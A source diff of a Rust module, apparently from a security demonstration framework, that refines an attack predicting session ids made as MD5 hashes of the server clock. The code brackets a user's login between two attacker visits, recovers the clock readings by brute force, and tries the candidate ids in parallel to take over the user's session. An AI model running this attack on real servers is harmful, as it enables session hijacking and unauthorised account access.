@@ -4,17 +4,23 @@
 //! guessed, and this one can: a second has 4,194,304 readings of the clock as a float. So:
 //!
 //! ```text
-//!  attacker    visits, gets id A                     time -->
-//!  user               visits, logs in
-//!  attacker                    visits, gets id B
-//!              |------|--------|
-//!              A      ?        B
+//!   attacker    gets id A                          time -->
+//!   user               gets an id, and logs in
+//!   attacker                  gets id B
+//!               |------|------|
+//!               A      ?      B
 //! ```
 //! The `Date` of the response gives the second of A; the hash of each reading in that second is
 //! compared with A. The same, from there on, for B. The user's id is the hash of a reading between
 //! them, of which there are a few thousand: each is tried at the server.
+//!
+//! A real attacker comes by again and again until a user logs in between two visits. Here the
+//! attack plays the user, too, and need not wait.
 
 use std::io;
+use std::ops::Range;
+use std::sync::Mutex;
+use std::sync::atomic::{AtomicUsize, Ordering};
 use std::thread;
 use std::time::{Duration, Instant, UNIX_EPOCH};
 
@@ -26,176 +32,166 @@ use crate::client::{Connection, Request, Response};
 use crate::target::Target;
 use crate::victim::tutorial::python_str;
 
-/// Maximum time between the visits of the attacker, with the user's between them. A real attacker
-/// waits for such a moment; so does this one, for a while.
-const NARROW: Duration = Duration::from_millis(2);
+/// Number of moments that are tried: the clients may be served in another order than they came.
+const MOMENTS: usize = 8;
 
-/// Maximum number of moments that are waited for. The best one counts.
-const MOMENTS: usize = 40;
+/// Time between two of the clients.
+const PAUSE: Duration = Duration::from_micros(300);
 
-/// Maximum number of ids that are tried at the server.
-const MAX_TRIES: usize = 400_000;
+/// Maximum number of ids that are tried in one moment.
+const MAX_TRIES: usize = 100_000;
 
-/// Number of requests that are sent before the first response is read.
-const BATCH: usize = 64;
+/// Number of connections on which ids are tried.
+const CONNECTIONS: usize = 16;
 
-/// A visit: what the server has sent.
-struct Visit {
-    /// Name and value of the session cookie.
-    cookie: (String, String),
+/// Number of requests that are sent on a connection before the first response is read.
+const BATCH: usize = 32;
+
+/// The first request of a client that brings a session id: a visit of the login form, or if the
+/// server gives ids to logged-in users only, the login.
+struct First {
+    cookies: String,
+    form: Option<String>,
+}
+
+/// What a client has got: its session cookie, and the page.
+struct Got {
+    name: String,
+    id: String,
     /// The Unix time of the Date field.
     second: u64,
     page: Response,
 }
 
-/// The moment at which a user comes between two visits of the attacker.
-struct Moment {
-    before: Visit,
-    user: Visit,
-    after: Visit,
-    took: Duration,
-}
-
 pub(super) fn make(target: &Target) -> io::Result<Outcome> {
-    let mut attacker = Connection::open(target)?;
-    let mut user = Connection::open(target)?;
-    let Some(mut best) = moment(&mut attacker, &mut user)? else {
-        println!("Neither a visit nor a login of admin sets a cookie with a session id.");
-        return Ok(Outcome::NoAnswer);
-    };
+    let mut clients =
+        [Connection::open(target)?, Connection::open(target)?, Connection::open(target)?];
+    println!("The attacker gets an id, a user logs in, and the attacker gets another id.");
     for _ in 0..MOMENTS {
-        if best.took <= NARROW {
-            break;
+        let Some([before, user, after]) = moment(&mut clients)? else {
+            println!("Neither a visit of /login nor a login sets a cookie with an id.");
+            return Ok(Outcome::NoAnswer);
+        };
+        let began = Instant::now();
+        let Some(first) = find_first(&before) else {
+            tell(&before, &after);
+            println!("None of the {} readings of the clock in two seconds has", 2 << 22);
+            println!(
+                "this id as its MD5 ({:.1} s): it does not come from the clock.",
+                seconds(began)
+            );
+            return Ok(Outcome::Held);
+        };
+        let took = seconds(began);
+        let last = f64_of(before.second + 2);
+        let Some(second) = find_between(first.to_bits()..last.to_bits(), &after.id) else {
+            continue;
+        };
+        let between = first.to_bits() + 1..second.to_bits();
+        if between.clone().count() > MAX_TRIES {
+            continue;
         }
-        match moment(&mut attacker, &mut user)? {
-            Some(next) if next.took < best.took => best = next,
-            _ => {}
+        log_in(&mut clients[1], &user)?;
+        tell(&before, &after);
+        println!(
+            "These are the hashes of two readings of its clock, found in {took:.1} s:"
+        );
+        println!("  md5(\"{}\") = {}", python_str(first), before.id);
+        println!("  md5(\"{}\") = {}", python_str(second), after.id);
+        if try_ids(target, &before.name, &between)? {
+            return Ok(Outcome::Broken);
         }
     }
-    log_in(&mut user, &best.user)?;
-    println!(
-        "The attacker visits {}/login, a user logs in, the attacker visits again.",
-        target.url()
-    );
-    println!("Between the two visits: {:.2} ms.", best.took.as_secs_f64() * 1000.0);
-    println!("What the attacker has:");
-    println!("  Date: {}", date_of(best.before.second));
-    println!("  Set-Cookie: {}={}", best.before.cookie.0, best.before.cookie.1);
-    println!("  Set-Cookie: {}={}", best.after.cookie.0, best.after.cookie.1);
-    println!();
-    let began = Instant::now();
-    let Some(clock) = find_readings(&best) else {
-        println!(
-            "No md5(str(time)) of the {} readings in two seconds is the first id,",
-            2 << 22
-        );
-        println!(
-            "computed in {:.1} s: this id does not come from the clock.",
-            seconds(began)
-        );
-        return Ok(Outcome::Held);
-    };
-    println!(
-        "Of all readings of the clock in that second, hashed in {:.1} s, these are",
-        seconds(began)
-    );
-    println!("the two ids:");
-    println!("  md5(\"{}\") = {}", python_str(clock.0), best.before.cookie.1);
-    println!("  md5(\"{}\") = {}", python_str(clock.1), best.after.cookie.1);
-    try_ids(&mut attacker, &best.before.cookie.0, clock)
+    // The first id was found each time, or this would have returned.
+    println!("No id of the user was found, but all ids are hashes of the clock.");
+    Ok(Outcome::Broken)
 }
 
-/// Lets the attacker, the user and the attacker visit, at once after another. Returns `None` if
-/// the server gives no session ids.
-fn moment(attacker: &mut Connection, user: &mut Connection) -> io::Result<Option<Moment>> {
-    let began = Instant::now();
-    let before = visit(attacker)?;
-    let user = visit(user)?;
-    let after = visit(attacker)?;
-    let took = began.elapsed();
-    Ok(match (before, user, after) {
-        (Some(before), Some(user), Some(after)) => {
-            Some(Moment { before, user, after, took })
+/// Lets the attacker, the user and the attacker get an id, at once after another. Returns `None`
+/// if the server gives none.
+fn moment(clients: &mut [Connection; 3]) -> io::Result<Option<[Got; 3]>> {
+    let mut firsts = Vec::new();
+    for client in clients.iter_mut() {
+        firsts.push(prepare(client)?);
+    }
+    for (client, first) in clients.iter_mut().zip(&firsts) {
+        let First { cookies, form } = first;
+        client.send(&[Request { path: "/login", cookies, form: form.as_deref() }])?;
+        let sent = Instant::now();
+        while sent.elapsed() < PAUSE {
+            std::hint::spin_loop();
         }
-        _ => None,
+    }
+    let mut got = Vec::new();
+    for client in clients {
+        let Some(one) = Got::from(client.read()?) else { return Ok(None) };
+        got.push(one);
+    }
+    Ok(got.try_into().ok())
+}
+
+/// Returns the request that will bring an id. It is tried whether a visit alone does.
+fn prepare(client: &mut Connection) -> io::Result<First> {
+    let page = client.request(Request { path: "/login", ..Request::default() })?;
+    Ok(match session_cookie(&page) {
+        Some(_) => First { cookies: String::new(), form: None },
+        None => First { cookies: cookies_of(&page), form: Some(form_of(&page)) },
     })
 }
 
-/// Visits the login page as a new client, and logs in if only that brings a session id.
-fn visit(connection: &mut Connection) -> io::Result<Option<Visit>> {
-    let page = connection.request(Request { path: "/login", ..Request::default() })?;
-    if let Some(cookie) = session_cookie(&page) {
-        return Ok(Some(Visit { cookie, second: second_of(&page), page }));
+impl Got {
+    fn from(page: Response) -> Option<Got> {
+        let (name, id) = session_cookie(&page)?;
+        let since = page.field("Date").and_then(date::parse)?.duration_since(UNIX_EPOCH);
+        let second = since.unwrap_or_default().as_secs();
+        Some(Got { name, id, second, page })
     }
-    let response = post_login(connection, &page, "")?;
-    let cookie = session_cookie(&response);
-    let second = second_of(&response);
-    Ok(cookie.map(|cookie| Visit { cookie, second, page: response }))
 }
 
-/// Sends the login form of a page, with the cookies of the page and `cookie`.
-fn post_login(
-    connection: &mut Connection,
-    page: &Response,
-    cookie: &str,
-) -> io::Result<Response> {
-    let token = page.form_token().unwrap_or_default();
-    let form = format!("username=admin&password=123&_xsrf={token}");
-    let others = page.cookies().map(|(name, value)| format!("{name}={value}"));
-    let mut cookies: Vec<String> = others.collect();
-    cookies.extend((!cookie.is_empty()).then(|| cookie.to_owned()));
-    let cookies = cookies.join("; ");
-    connection.request(Request { path: "/login", cookies: &cookies, form: Some(&form) })
-}
-
-/// Logs the user in, if the visit has not. Its id stays the same.
-fn log_in(connection: &mut Connection, visit: &Visit) -> io::Result<()> {
-    if visit.page.form_token().is_some() {
-        post_login(connection, &visit.page, "")?;
+/// Logs the user in with the page that it got, if that was the form.
+fn log_in(client: &mut Connection, got: &Got) -> io::Result<()> {
+    if got.page.form_token().is_some() {
+        let (cookies, form) = (cookies_of(&got.page), form_of(&got.page));
+        client.request(Request { path: "/login", cookies: &cookies, form: Some(&form) })?;
     }
     Ok(())
 }
 
+fn cookies_of(page: &Response) -> String {
+    let pairs = page.cookies().map(|(name, value)| format!("{name}={value}"));
+    pairs.collect::<Vec<_>>().join("; ")
+}
+
+/// Returns the login form of a page, filled in.
+fn form_of(page: &Response) -> String {
+    let token = page.form_token().unwrap_or_default();
+    format!("username=admin&password=123&_xsrf={token}")
+}
+
 /// Returns the first cookie that is not an XSRF token.
-fn session_cookie(response: &Response) -> Option<(String, String)> {
-    let mut others = response.cookies().filter(|(name, _)| !name.contains("xsrf"));
+fn session_cookie(page: &Response) -> Option<(String, String)> {
+    let mut others = page.cookies().filter(|(name, _)| !name.contains("xsrf"));
     others.next().map(|(name, value)| (name.to_owned(), value.to_owned()))
 }
 
-fn second_of(response: &Response) -> u64 {
-    let date = response.field("Date").and_then(date::parse);
-    let since = date.and_then(|date| date.duration_since(UNIX_EPOCH).ok());
-    since.unwrap_or_default().as_secs()
+/// Prints what the attacker has got.
+fn tell(before: &Got, after: &Got) {
+    let date = date::format(UNIX_EPOCH + Duration::from_secs(before.second));
+    println!("What the attacker has got:");
+    println!("  Date: {date}");
+    println!("  Set-Cookie: {}={}", before.name, before.id);
+    println!("  Set-Cookie: {}={}\n", after.name, after.id);
 }
 
-fn date_of(second: u64) -> String {
-    date::format(UNIX_EPOCH + Duration::from_secs(second))
-}
-
-fn seconds(began: Instant) -> f64 {
-    began.elapsed().as_secs_f64()
-}
-
-/// Returns the readings of the clock whose hashes are the ids before and after the user's.
-fn find_readings(moment: &Moment) -> Option<(f64, f64)> {
-    let second = moment.before.second;
-    let before = decode(&moment.before.cookie.1)?;
-    let after = decode(&moment.after.cookie.1)?;
-    // The id is a little older than the Date, so it may be of the second before.
-    let found = [second, second.saturating_sub(1)].into_iter();
-    let before = found.filter_map(|second| find_in_second(second, before)).next()?;
-    let last = f64_of(second + 2);
-    let after = find_between(before.to_bits()..last.to_bits(), after)?;
-    Some((before, after))
-}
-
-/// Returns the bytes of an id of 32 hex digits.
-fn decode(id: &str) -> Option<[u8; 16]> {
-    hex::decode(id).ok()?.try_into().ok()
+/// Returns the reading of the clock whose hash is the first id. The id is a little older than the
+/// Date, so it may be of the second before.
+fn find_first(got: &Got) -> Option<f64> {
+    let seconds = [got.second, got.second.saturating_sub(1)];
+    seconds.into_iter().find_map(|second| find_in_second(second, &got.id))
 }
 
 /// Searches a second with two threads.
-fn find_in_second(second: u64, id: [u8; 16]) -> Option<f64> {
+fn find_in_second(second: u64, id: &str) -> Option<f64> {
     let (start, end) = (f64_of(second).to_bits(), f64_of(second + 1).to_bits());
     let middle = u64::midpoint(start, end);
     thread::scope(|scope| {
@@ -207,9 +203,9 @@ fn find_in_second(second: u64, id: [u8; 16]) -> Option<f64> {
 
 /// Returns the reading whose hash is `id`. The bits of positive floats are in the order of the
 /// floats, so the next float is the next number.
-fn find_between(bits: std::ops::Range<u64>, id: [u8; 16]) -> Option<f64> {
-    let mut readings = bits.map(f64::from_bits);
-    readings.find(|reading| hash(*reading) == id)
+fn find_between(bits: Range<u64>, id: &str) -> Option<f64> {
+    let id: [u8; 16] = hex::decode(id).ok()?.try_into().ok()?;
+    bits.map(f64::from_bits).find(|reading| hash(*reading) == id)
 }
 
 fn hash(reading: f64) -> [u8; 16] {
@@ -221,41 +217,68 @@ fn f64_of(second: u64) -> f64 {
     second as f64
 }
 
-/// Tries the ids of all readings between the two of the attacker.
-fn try_ids(
-    attacker: &mut Connection,
-    name: &str,
-    (before, after): (f64, f64),
-) -> io::Result<Outcome> {
-    let between = before.to_bits() + 1..after.to_bits();
-    println!(
-        "\nBetween them are {} readings. Their ids, tried at /main:",
-        between.clone().count()
-    );
-    let began = Instant::now();
-    let ids: Vec<String> = between
-        .map(|bits| hex::encode(hash(f64::from_bits(bits))))
-        .take(MAX_TRIES)
-        .collect();
-    for (number, batch) in ids.chunks(BATCH).enumerate() {
-        let cookies: Vec<String> = batch.iter().map(|id| format!("{name}={id}")).collect();
-        let request = |cookies| Request { path: "/main", cookies, form: None };
-        let requests: Vec<Request<'_>> = cookies.iter().map(|it| request(it)).collect();
-        attacker.send(&requests)?;
-        for (place, cookie) in cookies.iter().enumerate() {
-            let response = attacker.read()?;
-            if response.status == 200 {
-                let tries = number * BATCH + place + 1;
-                println!("  {tries} tries in {:.1} s, then:", seconds(began));
-                println!("  GET /main   Cookie: {cookie}");
-                println!("  200 {}", response.content.lines().next().unwrap_or_default());
-                println!(
-                    "\nThis is the user's session. The attacker never saw its cookie."
-                );
-                return Ok(Outcome::Broken);
+fn seconds(began: Instant) -> f64 {
+    began.elapsed().as_secs_f64()
+}
+
+/// Tries the ids of all readings between the two of the attacker, on several connections. Returns
+/// `true` if one opens the main page.
+fn try_ids(target: &Target, name: &str, between: &Range<u64>) -> io::Result<bool> {
+    let id = |bits| format!("{name}={}", hex::encode(hash(f64::from_bits(bits))));
+    let cookies: Vec<String> = between.clone().map(id).collect();
+    let batches: Vec<&[String]> = cookies.chunks(BATCH).collect();
+    println!("\nThe user's is between them. {} ids are tried at /main:", cookies.len());
+    let (began, next, found) = (Instant::now(), AtomicUsize::new(0), Mutex::new(None));
+    let worker = || -> io::Result<()> {
+        let mut connection = Connection::open(target)?;
+        while let Some(batch) = batches.get(next.fetch_add(1, Ordering::Relaxed)) {
+            if let Some(hit) = try_batch(&mut connection, batch)? {
+                next.store(batches.len(), Ordering::Relaxed);
+                *found.lock().expect("no worker panics") = Some(hit);
             }
         }
+        Ok(())
+    };
+    thread::scope(|scope| {
+        let workers: Vec<_> = (0..CONNECTIONS).map(|_| scope.spawn(worker)).collect();
+        workers.into_iter().try_for_each(|worker| worker.join().expect("no worker panics"))
+    })?;
+    let found = found.into_inner().expect("no worker panics");
+    match found {
+        None => println!("  none opens the page ({:.1} s).\n", seconds(began)),
+        Some((cookie, page)) => {
+            println!("  after {:.1} s, this one opens the page:", seconds(began));
+            println!(
+                "  > GET /main HTTP/1.1\n  > Cookie: {cookie}\n  < HTTP/1.1 200 OK\n  < {page}"
+            );
+            println!(
+                "\nThis is the user's session. The attacker has never seen its cookie."
+            );
+            return Ok(true);
+        }
     }
-    println!("  {} tries in {:.1} s, and none opens the page.", ids.len(), seconds(began));
-    Ok(Outcome::Held)
+    Ok(false)
+}
+
+/// Sends a request with each of the cookies, and returns the cookie that gets the main page, and
+/// the line of the page that says so.
+fn try_batch(
+    connection: &mut Connection,
+    cookies: &[String],
+) -> io::Result<Option<(String, String)>> {
+    let requests: Vec<Request<'_>> = cookies
+        .iter()
+        .map(|cookies| Request { path: "/main", cookies, form: None })
+        .collect();
+    connection.send(&requests)?;
+    let mut found = None;
+    for cookie in cookies {
+        let response = connection.read()?;
+        let mut lines = response.content.lines().map(str::trim);
+        if response.status == 200 {
+            let line = lines.find(|line| line.contains("main page")).unwrap_or_default();
+            found = Some((cookie.clone(), line.to_owned()));
+        }
+    }
+    Ok(found)
 }
